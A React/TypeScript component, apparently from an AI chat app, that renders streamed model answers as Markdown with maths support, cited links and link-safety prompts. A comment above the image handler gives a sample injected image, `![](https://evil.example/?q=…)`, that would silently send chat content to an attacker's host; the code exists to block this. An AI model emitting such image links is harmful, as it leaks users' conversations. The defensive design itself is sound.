"use client";

import { createContext, useContext, useMemo, type ComponentProps } from "react";
import { defaultComponents, Streamdown, type Components, type ExtraProps } from "streamdown";
import { codeHighlighter } from "@/lib/client/code-highlighter";
import { normalizeMathDelimiters } from "@/lib/client/inline-math";
import { CITATION_LINK_REL, imageAsLink, isCitedLink } from "@/lib/client/markdown-policy";
import { LoadFailedAlert } from "../ui/load-failed-alert";
import { useOnDemand } from "../ui/use-on-demand";
import { mathRenderer } from "./math-on-demand";

// Maths: `$$…$$` (inline or as a block) renders with KaTeX; a single `$` stays text, so prices survive.
// `$x$`, `\(x\)` and `\[x\]` are rewritten to `$$` first where they read as maths (lib/client/inline-math).
// KaTeX downloads when the first answer with `$$` renders; until then the maths shows as written.
const PLUGINS_WITHOUT_MATH = { code: codeHighlighter };
const StreamdownLink = defaultComponents.a;
/** True inside a link of the answer, where an image must not become a second, nested link. */
const InsideLink = createContext(false);
/** The pages the answer cites: their links open without the link-safety prompt. */
const CitedUrls = createContext<readonly string[]>([]);

function LinkWithContext(props: ComponentProps<"a"> & ExtraProps) {
  const cited = isCitedLink(props.href, useContext(CitedUrls));
  return (
    <InsideLink.Provider value={true}>
      {cited ? (
        <a href={props.href} target="_blank" rel={CITATION_LINK_REL} data-streamdown="link" className="wrap-anywhere font-medium text-primary underline">
          {props.children}
        </a>
      ) : (
        <StreamdownLink {...props} />
      )}
    </InsideLink.Provider>
  );
}

/**
 * Images in model output are never loaded (an injected `![](https://evil.example/?q=…)` would send
 * the chat off-site without a click): each becomes a link, labelled with its alt text, that goes
 * through the same link-safety prompt as every other link of an answer. Covers Markdown images and
 * raw `<img>` alike (both reach this component). An image inside a link (`[![badge](…)](…)`) shows
 * only its label: the surrounding link already leads somewhere.
 */
function ImageAsLink({ src, alt }: ComponentProps<"img"> & ExtraProps) {
  const insideLink = useContext(InsideLink);
  const link = imageAsLink(src, alt);
  if (!link.href || insideLink) return <span data-markdown-image="unlinked">{link.label}</span>;
  return (
    <StreamdownLink href={link.href} rel={link.rel} target={link.target} data-markdown-image="link">
      {link.label}
    </StreamdownLink>
  );
}

/** `<source srcset>` (allowed inside `<picture>` by the sanitizer) must not load anything either. */
function NoSource() {
  return null;
}

const COMPONENTS: Components = { a: LinkWithContext, img: ImageAsLink, source: NoSource };
const NO_CITATIONS: readonly string[] = [];

interface MarkdownContentProps {
  text: string;
  streaming: boolean;
  className?: string;
  /** The pages the answer cites (its source-url parts): links to them open at once. */
  citedUrls?: readonly string[];
}

/**
 * Model output as Markdown, rendered incrementally while it streams (unfinished blocks render cleanly).
 * Link safety stays on (Streamdown's default): a link opens only after a prompt that shows its URL,
 * except a citation of the answer's web search (`citedUrls`), a plain link to a new tab.
 */
export function MarkdownContent({ text, streaming, className = "", citedUrls = NO_CITATIONS }: MarkdownContentProps) {
  const markdown = normalizeMathDelimiters(text);
  const maths = useOnDemand(mathRenderer, markdown.includes("$$"));
  const math = maths.status === "ready" ? maths.module.math : undefined;
  const plugins = useMemo(() => (math ? { ...PLUGINS_WITHOUT_MATH, math } : PLUGINS_WITHOUT_MATH), [math]);
  return (
    <CitedUrls.Provider value={citedUrls}>
      <Streamdown
        className={`lwc-markdown ${className}`}
        mode={streaming ? "streaming" : "static"}
        isAnimating={streaming}
        caret={streaming ? "block" : undefined}
        plugins={plugins}
        components={COMPONENTS}
        controls={{ code: true, table: true, mermaid: false }}
      >
        {markdown}
      </Streamdown>
      {maths.status === "failed" && <LoadFailedAlert title="The maths did not load, so it shows as written" onRetry={maths.retry} />}
    </CitedUrls.Provider>
  );
}
